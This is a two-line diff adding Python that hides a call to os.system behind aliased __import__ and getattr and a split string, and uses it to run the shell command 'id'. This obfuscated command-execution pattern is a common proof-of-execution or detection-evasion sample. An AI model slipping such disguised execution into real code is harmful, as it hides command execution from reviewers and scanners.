@@ -1,0 +1,2 @@
+a, c = __import__, getattr
+c(a('os'), 'sys' + 'tem')('id')
